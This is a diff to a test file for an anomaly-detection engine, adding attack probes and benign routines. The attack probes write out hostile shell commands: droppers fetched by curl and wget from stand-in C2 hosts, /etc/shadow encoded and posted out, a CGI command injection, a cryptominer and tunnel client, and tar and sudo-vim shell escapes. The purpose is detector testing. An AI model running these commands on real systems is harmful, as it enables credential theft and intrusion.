@@ -33,6 +33,7 @@ from scoring.engine import AnomalyEngine, Verdict  # noqa: E402
 from testing import EVAL_DIR  # noqa: E402
 
 C2 = "45.9.148.3"  # a public address: what droppers fetch from (never contacted)
+LOCAL_C2 = "127.0.0.1:8000"  # the captured chains' server: an attacker's address need not look foreign
 SEVERITY_MARK = {"alert": "A", "warn": "w", "none": "."}
 
 
@@ -235,6 +236,32 @@ ATTACKS = [
                            "sh /tmp/.s"))),
     Probe("decoded script run by python", "admin", True, _steps(
         lambda s: s.run("base64 -d blob.txt", "tee /dev/shm/a.py"), lambda s: s.run("python3 /dev/shm/a.py"))),
+    Probe("script saved by curl, run by bash", "admin", True, _steps(
+        lambda s: s.run(f"curl -s http://{C2}/s.sh -o s.sh"), lambda s: s.run("bash s.sh"))),
+    Probe("escaped bytes printed into sh by a CGI", "web", True, _steps(_web("fcgiwrap", "/usr/sbin/fcgiwrap"),
+        lambda s: s.script("ping -c 1 -W 1 127.0.0.1;printf '\\x69\\x64'|sh", "ping -c 1 -W 1 127.0.0.1", "sh"))),
+    Probe("ping sweep in a loop", "admin", True, lambda s: s.script(
+        "for i in $(seq 1 254); do ping -c1 -W1 10.0.0.$i; done", "seq 1 254", "ping -c1 -W1 10.0.0.1",
+        "ping -c1 -W1 10.0.0.2")),
+    Probe("python dropper from a local server below a CGI", "web", True, _steps(_web("fcgiwrap", "/usr/sbin/fcgiwrap"),
+        lambda s: s.script(f"curl -s http://{LOCAL_C2}/x.py -o /tmp/x.py;python3 /tmp/x.py",
+                           f"curl -s http://{LOCAL_C2}/x.py -o /tmp/x.py", "python3 /tmp/x.py"))),
+    Probe("shadow encoded and posted below a CGI", "web", True, _steps(_web("fcgiwrap", "/usr/sbin/fcgiwrap"),
+        lambda s: s.script(f"cat /etc/shadow|base64|curl -s -d @- http://{LOCAL_C2}/", "cat /etc/shadow", "base64",
+                           f"curl -s -d @- http://{LOCAL_C2}/"))),
+    Probe("miner fetched into a build cache", "ci", True, _steps(
+        lambda s: s.run(f"wget -q http://{LOCAL_C2}/xmrig -O .cache/xm"), lambda s: s.run("chmod +x .cache/xm"),
+        lambda s: s.run("./.cache/xm -o stratum+tcp://pool:3333 --donate-level 1", path="/srv/work/ci/.cache/xm")),
+        uid=1001, cwd="/srv/work/ci"),
+    Probe("tunnel client in /dev/shm", "admin", True, _steps(
+        lambda s: s.run(f"curl -so /dev/shm/c http://{LOCAL_C2}/chisel"), lambda s: s.run("chmod +x /dev/shm/c"),
+        lambda s: s.run("/dev/shm/c client 127.0.0.1:9000 R:socks", path="/dev/shm/c"))),
+    Probe("tar checkpoint runs a shell", "admin", True, lambda s: s.run(
+        "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh")),
+    Probe("shell escape from vim through sudo", "admin", True, _steps(
+        lambda s: s.run("sudo -l"), lambda s: s.run("sudo vim -c ':!/bin/sh'")), uid=1000, cwd="/home/u"),
+    Probe("a database server writes a file and runs it", "web", True, _steps(_web("mysqld", "/usr/sbin/mysqld"),
+        lambda s: s.script("echo x > /tmp/.m; chmod +x /tmp/.m; /tmp/.m", "chmod +x /tmp/.m", "/tmp/.m"))),
 ]
 
 ROUTINES = [
@@ -275,6 +302,13 @@ ROUTINES = [
     Probe("a network problem debugged", "admin", False, _steps(
         lambda s: s.run("ss -tulpn"), lambda s: s.run("ps auxf"), lambda s: s.run("lsof -i :443"),
         lambda s: s.run("tcpdump -i eth0 -c 100 port 443")), cwd="/root"),
+    Probe("a certificate checked by hand", "admin", False, lambda s: s.run(
+        "openssl s_client -connect example.com:443 -servername example.com"), cwd="/root"),
+    Probe("Docker's install script", "admin", False, _steps(
+        lambda s: s.run("curl -fsSL https://get.docker.com -o get-docker.sh"), lambda s: s.run("sh get-docker.sh")),
+        cwd="/root"),
+    Probe("a node build", "ci", False, _steps(lambda s: s.run("npm ci"), lambda s: s.run("npm run build"),
+                                            lambda s: s.run("npm test")), uid=1001, cwd="/srv/work/ci"),
     Probe("NodeSource setup script", "admin", False, _steps(
         lambda s: s.run("curl -fsSL https://deb.nodesource.com/setup_20.x -o nodesource_setup.sh"),
         lambda s: s.run("bash nodesource_setup.sh"), lambda s: s.run("apt-get install -y nodejs")), cwd="/opt"),
